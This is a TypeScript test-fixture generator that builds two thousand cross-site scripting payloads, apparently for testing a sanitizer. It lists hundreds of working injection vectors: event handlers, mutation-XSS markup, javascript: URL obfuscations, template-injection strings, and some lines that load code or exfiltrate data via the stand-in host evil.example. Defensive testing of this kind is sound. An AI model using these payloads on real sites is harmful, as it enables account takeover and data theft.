/** Two thousand ways to make a page run written text. Each calls `xss` with its number. */

/** How a payload is meant to run; the test of the payloads themselves inserts it there. */
export type Sink =
  /** As HTML. */
  | 'html'
  /** As an attribute's value in double quotes, in single ones, or in none. */
  | 'double'
  | 'single'
  | 'bare'
  /** As the address of a link. */
  | 'link'
  /** As a string in a script, or as the text of one. */
  | 'script'
  /** By a template, Markdown or style engine, none of which exists here: not proved to run. */
  | 'engine'

export interface Payload {
  readonly id: number
  readonly sink: Sink
  readonly text: string
}

/** Ways to call it; some are spelled so that filters miss them. */
const calls: ReadonlyArray<(id: number) => string> = [
  (id) => `xss(${id})`,
  (id) => `top.xss(${id})`,
  (id) => `xss.call(0,${id})`,
  (id) => `\\u0078ss(${id})`,
  (id) => `\\u{78}s\\u0073(${id})`,
  (id) => `[${id}].map(xss)`,
  (id) => `window['x'+'ss'](${id})`,
  (id) => `self[/*x*/'xss'](${id})`,
  (id) => `(1,xss)(${id})`,
  (id) => `eval('xss('+${id}+')')`,
  (id) => `Function('xss(${id})')()`,
  (id) => `alert(${id})`,
  (id) => `confirm(${id})`,
  (id) => `prompt(${id})`,
  (id) => `new\u000cxss(${id})`,
]

/** HTML in which {js} stands for a call. */
const html = [
  '<script>{js}</script>',
  '<SCRIPT>{js}</SCRIPT>',
  '<script\n>{js}</script\n>',
  '<script/x>{js}</script>',
  '<script type=module>{js}</script>',
  '<script src="data:text/javascript,{js}"></script>',
  '<scr<script>ipt>{js}</scr</script>ipt>',
  '<img src=x onerror={js}>',
  '<img src=x onerror="{js}">',
  "<img src=x onerror='{js}'>",
  '<img src=x onerror={js}//',
  '<IMG SRC=x OnErRoR={js}>',
  '<img/src=x/onerror={js}>',
  '<img\tsrc=x\tonerror={js}>',
  '<img\nsrc=x\nonerror\n=\n{js}>',
  '<img\u000csrc=x\u000conerror={js}>',
  '<img src onerror={js}>',
  '<img src=x onerror="{entities}">',
  '<img src=x onerror="{hex}">',
  '<img src=x onerror=&Tab;{js}>',
  '<img """><script>{js}</script>">',
  '<img src=x:x onerror={js} alt="-->',
  '<image src=x onerror={js}>',
  '<svg onload={js}>',
  '<svg/onload={js}>',
  '<svg onload="{js}"/>',
  '<SVG ONLOAD={js}>',
  '<svg><script>{js}</script></svg>',
  '<svg><script>{entities}</script></svg>',
  '<svg><animate onbegin={js} attributeName=x dur=1s>',
  '<svg><set onbegin={js} attributename=x to=1>',
  '<svg><image href=x onerror={js}></svg>',
  '<svg><a xlink:href="javascript:{js}"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror={js} /></svg>#x"/></svg>',
  '<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>',
  '<svg><style>{</style><img src=x onerror={js}>',
  '<svg></p><style><a id="</style><img src=x onerror={js}>">',
  '<math><mtext></mtext><img src=x onerror={js}></math>',
  '<math><mi/xlink:href="javascript:{js}">x</mi></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror={js}></annotation-xml></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={js}&gt;">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={js} src>">',
  '<noscript><p title="</noscript><img src=x onerror={js}>">',
  '<template><img src=x onerror={js}></template>',
  '<xmp><p title="</xmp><img src=x onerror={js}>">',
  '<textarea><p title="</textarea><img src=x onerror={js}>">',
  '<title></title><img src=x onerror={js}>',
  '<style></style><img src=x onerror={js}>',
  '</style><img src=x onerror={js}>',
  '</title><svg onload={js}>',
  '</textarea><svg onload={js}>',
  '</script><svg onload={js}>',
  '--><svg onload={js}>',
  '--!><img src=x onerror={js}>',
  ']]><img src=x onerror={js}>',
  '<![CDATA[><img src=x onerror={js}>]]>',
  '<?xml ?><img src=x onerror={js}>',
  '<!--><img src=x onerror={js}>-->',
  '<!--[if gte IE 4]><img src=x onerror={js}><![endif]-->',
  '<a><svg/onload={js}></a>',
  '<select><option><style></option></select><img src=x onerror={js}></style>',
  '<table><td background=x></td><img src=x onerror={js}></table>',
  '<body onload={js}>',
  '<body onpageshow={js}>',
  '<iframe onload={js}></iframe>',
  '<iframe src="javascript:parent.{js}"></iframe>',
  '<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.{js}&gt;"></iframe>',
  '<iframe/src="data:text/html,<script>parent.{js}</script>"></iframe>',
  '<object data="javascript:{js}"></object>',
  '<object data="data:text/html,<script>{js}</script>"></object>',
  '<embed src="javascript:{js}">',
  '<embed src="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload={js} />">',
  '<video><source onerror={js}></video>',
  '<video src=x onerror={js}></video>',
  '<video poster=x onloadstart={js} src=x></video>',
  '<audio src=x onerror={js}></audio>',
  '<input onfocus={js} autofocus>',
  '<input type=image src=x onerror={js}>',
  '<select onfocus={js} autofocus></select>',
  '<textarea onfocus={js} autofocus></textarea>',
  '<button onfocus={js} autofocus>x</button>',
  '<keygen onfocus={js} autofocus>',
  '<details open ontoggle={js}>x</details>',
  '<marquee onstart={js}>x</marquee>',
  '<div onmouseover={js}>x</div>',
  '<div onpointerover={js} style="position:fixed;inset:0">x</div>',
  '<b onclick={js}>x</b>',
  '<xss tabindex=1 autofocus onfocus={js}>x</xss>',
  '<xss style=animation-name:x onanimationstart={js}>x</xss><style>@keyframes x{}</style>',
  '<xss style=transition:1s ontransitionend={js}>x</xss>',
  '<p contenteditable onbeforeinput={js}>x</p>',
  '<a href="javascript:{js}">x</a>',
  '<a href=javascript:{js}>x</a>',
  '<a href=" javascript:{js}">x</a>',
  '<a href="java&#9;script:{js}">x</a>',
  '<a href="java&NewLine;script&colon;{js}">x</a>',
  '<a href="&#106;avascript:{js}">x</a>',
  '<a href="data:text/html,<script>{js}</script>">x</a>',
  '<a href=# onclick={js} ping=//evil.example/{id}>x</a>',
  '<area href="javascript:{js}">',
  '<form action="javascript:{js}"><button>x</button></form>',
  '<form><button formaction="javascript:{js}">x</button></form>',
  '<isindex type=image src=x onerror={js}>',
  '<meta http-equiv=refresh content="0;url=javascript:{js}">',
  '<meta http-equiv=refresh content="0;url=//evil.example/{id}">',
  '<meta http-equiv=Content-Security-Policy content="script-src *"><img src=x onerror={js}>',
  '<base href="//evil.example/{id}/">',
  '<base href="javascript:/a/-{js}//">',
  '<link rel=stylesheet href="//evil.example/{id}.css">',
  '<link rel=import href="data:text/html,<script>{js}</script>">',
  '<link rel=preload as=script href=//evil.example/{id} onload={js} onerror={js}>',
  '<link rel=prefetch href=//evil.example/{id}>',
  '<img src=//evil.example/{id}.png>',
  '<img srcset="//evil.example/{id}.png 1x" onerror={js}>',
  '<script src=//evil.example/{id}.js></script>',
  '<style>@import "//evil.example/{id}.css";</style>',
  '<style>*{background:url(//evil.example/{id})}</style>',
  '<div style="background:url(//evil.example/{id})">x</div>',
  '<style>[value^=a]{background:url(//evil.example/{id})}</style>',
  '<form id=attributes><input name=nodeName></form><img src=x onerror={js}>',
  '<img name=getElementById><img id=cookie src=x onerror={js}>',
  '<a id=trustedTypes><a id=trustedTypes name=createPolicy href="javascript:{js}">x</a></a>',
  '<script>trustedTypes.createPolicy("default",{createHTML:String,createScript:String});{js}</script>',
  '<img src=x onerror="trustedTypes.createPolicy(`p{id}`,{createHTML:s=>s});{js}">',
  '<img src=x onerror="document.body.append(Object.assign(document.createElement(`script`),{text:`{js}`}))">',
  '<script nonce="">{js}</script>',
  '<script>import("data:text/javascript,top.{js}")</script>',
  '<img src=x onerror="new Worker(`data:text/javascript,0`);{js}">',
  '<img src=x onerror="navigator.serviceWorker?.register(`/media/x`);{js}">',
  '<dialog open onclose={js}><form method=dialog><button autofocus>x</button></form></dialog>',
  '<button popovertarget=x{id}>x</button><xss popover id=x{id} onbeforetoggle={js}>x</xss>',
  '<custom-element is=x-{id} onfocusin={js} tabindex=0 autofocus>x</custom-element>',
  '＜script＞{js}＜/script＞<img src=x onerror={js}>',
  '\u202e<img src=x onerror={js}>',
  '\ufeff<svg onload={js}>',
  '<\u200bimg src=x onerror={js}><img src=x onerror={js}>',
  '+ADw-script+AD4-{js}+ADw-/script+AD4-<img src=x onerror={js}>',
  '%3Cimg src=x onerror={js}%3E<img src=x onerror={js}>',
  '&lt;img src=x onerror={js}&gt;<img src=x onerror={js}>',
  '\\x3cimg src=x onerror={js}\\x3e<img src=x onerror={js}>',
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+{js}//'>`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk={js} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={js}//>`,
  `"'--></noscript></select><svg onload={js}>`,
  '<a href="https://a.example/"><img src=x onerror={js}></a>',
  '@<img src=x onerror={js}>',
  '#<img src=x onerror={js}>',
  '[x](<img src=x onerror={js}>)',
  '![x" onerror="{js}](x)<img src=x onerror={js}>',
  '`<img src=x onerror={js}>`',
  '```html\n<img src=x onerror={js}>\n```',
]

/** Texts that end an attribute's value and begin another attribute. */
const endings: ReadonlyArray<readonly [Sink, string]> = [
  ['double', '" onfocus="{js}" autofocus tabindex=1 x="'],
  ['double', '"onfocus={js} autofocus tabindex=1 x="'],
  ['double', '"\tonfocus={js}\tautofocus\ttabindex=1\tx="'],
  ['double', '"/onfocus={js}/autofocus/tabindex=1/x="'],
  ['double', '"><img src=x onerror={js}>'],
  ['double', '"><script>{js}</script>'],
  ['double', '"></a><svg onload={js}>'],
  ['double', '" style="animation-name:x" onanimationstart="{js}'],
  ['double', 'https://a.example/" onmouseover="{js}'],
  ['double', 'https://a.example/"><img src=x onerror={js}>'],
  ['single', "' onfocus='{js}' autofocus tabindex=1 x='"],
  ['single', "'><img src=x onerror={js}>"],
  ['single', "https://a.example/' onmouseover='{js}"],
  ['bare', 'x onfocus={js} autofocus tabindex=1 '],
  ['bare', 'x><img src=x onerror={js}>'],
  ['bare', 'https://a.example/ onmouseover={js} '],
]

const links = [
  'javascript:{js}',
  'JavaScript:{js}',
  'JAVASCRIPT:{js}',
  ' javascript:{js}',
  '\u0001javascript:{js}',
  '\u001fjavascript:{js}',
  'java\tscript:{js}',
  'java\nscript:{js}',
  'java\r\nscript:{js}',
  'javascript\t:{js}',
  'javascript://a.example/%0a{js}',
  'javascript://a.example/\u2028{js}',
  'javascript:void {js}',
  'javascript:"<b>"+{js}',
  'javascript:%78ss({id})',
  'javascript:/*https://a.example/*/{js}',
]

/** Texts that only some engine would run. */
const engines = [
  '{{{js}}}',
  '{{constructor.constructor("{js}")()}}',
  '{{$on.constructor("{js}")()}}',
  '{%{js}%}',
  '<%= {js} %>',
  '${{js}}',
  '#{{js}}',
  '*{{js}}',
  '@({js})',
  '[[{js}]]',
  '{@html "<img src=x onerror={js}>"}',
  '<div v-html="{js}" x-data="{js}" ng-init="{js}" @click="{js}" :x="{js}">x</div>',
  '<p dangerouslySetInnerHTML={{__html:"<img src=x onerror={js}>"}}>',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror={js}>"}}',
  '{"type":"script","props":{"children":"{js}"},"$$typeof":"Symbol(react.element)"}',
  '{"toString":"{js}","length":1}',
  '[x](javascript:{js})',
  '[x](JaVaScRiPt:{js})',
  '[x]( java\tscript:{js})',
  '[x](data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4={id})',
  '[x]: javascript:{js}',
  '![x](javascript:{js})',
  '<javascript:{js}>',
  '<https://a.example/"onclick={js}>',
  '[url=javascript:{js}]x[/url]',
  '[img]x" onerror="{js}[/img]',
  'https://javascript:{js}@a.example/',
  'https://a.example/#javascript:{js}',
  'https://a.example/?x=javascript:{js}',
  'http://a.example/\u2028javascript:{js}',
  'data:text/html,<script>{js}</script>',
  'data:text/html;charset=utf-7,+ADw-script+AD4-{js}',
  'data:image/svg+xml,<svg onload={js}/>',
  'vbscript:msgbox({id})',
  'livescript:{js}',
  'blob:javascript:{js}',
  'filesystem:javascript:{js}',
  'view-source:javascript:{js}',
  'feed:javascript:{js}',
  'jar:javascript:{js}!/',
  'mailto:x@a.example?subject=javascript:{js}',
  'tel:javascript:{js}',
  '//evil.example/{id}',
  '\\\\evil.example\\{id}',
  '/\\evil.example/{id}',
  '#/dashboard?to=javascript:{js}',
  '#javascript:{js}',
  '@javascript:{js}',
  'x:expression({js})',
  '}*{background:url(javascript:{js})',
  '</style><style>*{behavior:url(//evil.example/{id})}',
  '-moz-binding:url(//evil.example/{id}#x)',
  '\\",{js}//',
  "';{js}//",
  '`-{js}-`',
  '\u2028{js}//',
  ');{js}//',
]

const inEntities = (js: string) => [...js].map((sign) => `&#${sign.codePointAt(0)};`).join('')
const inHex = (js: string) => [...js].map((sign) => `&#x${sign.codePointAt(0)?.toString(16)}`).join('')

const templates: ReadonlyArray<readonly [Sink, string]> = [
  ...html.map((text) => ['html', text] as const),
  ...endings,
  ...links.map((text) => ['link', text] as const),
  ...engines.map((text) => ['engine', text] as const),
]

/**
 * Returns `count` payloads: the templates in turn, with changing calls, so that any part of them has some of
 * everything.
 */
export function makePayloads(count: number): Payload[] {
  const seen = new Set<string>()
  return Array.from({ length: count }, (_, index) => {
    // The call shifts by one more after each round of templates, so that a template gets another call each
    // round.
    const [sink, template] = templates[index % templates.length] ?? ['html', '']
    const id = 10_000 + index
    const call = calls[(index + Math.floor(index / templates.length)) % calls.length] ?? calls[0]
    const js = call?.(id) ?? ''
    const text = template
      .replaceAll('{js}', () => js)
      .replaceAll('{id}', String(id))
      .replaceAll('{entities}', () => inEntities(js))
      .replaceAll('{hex}', () => inHex(js))
    if (seen.has(text)) throw new Error(`${text} is there twice`)
    seen.add(text)
    return { id, sink, text }
  })
}
